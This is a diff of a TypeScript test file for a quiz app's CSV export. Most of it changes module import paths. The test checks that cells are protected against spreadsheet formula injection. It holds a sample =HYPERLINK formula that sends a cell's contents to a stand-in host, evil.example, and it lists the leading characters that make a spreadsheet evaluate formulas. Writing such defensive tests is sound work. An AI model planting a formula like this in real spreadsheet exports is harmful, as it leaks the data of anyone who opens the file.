@@ -2,12 +2,11 @@
 // with a leading quote, quoted; the bank CSV reads back exactly what was exported.
 import { describe, expect, it } from "vitest";
 import { dashboardCsv } from "@/lib/analytics/csv";
-import type { QuizDashboard, RowStat } from "@/lib/analytics/data";
+import type { QuizDashboard, RowStat } from "@/lib/analytics/describe";
 import { csvField, neutraliseFormulaText, restoreFormulaText } from "@/lib/csv/cells";
-import { toCsv } from "@/lib/imports/export";
-import { parseCsv } from "@/lib/imports/csv";
-import type { ParsedQuestion } from "@/lib/imports/gift";
-import { parseUpload } from "@/lib/imports/upload";
+import { parseCsv, toCsv } from "@/lib/bank/formats/csv";
+import { parseUpload } from "@/lib/bank/import/upload";
+import type { ParsedQuestion } from "@/lib/bank/types";
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1)';
 const DANGEROUS = ["=", "+", "-", "@", "\t", "\r"] as const;
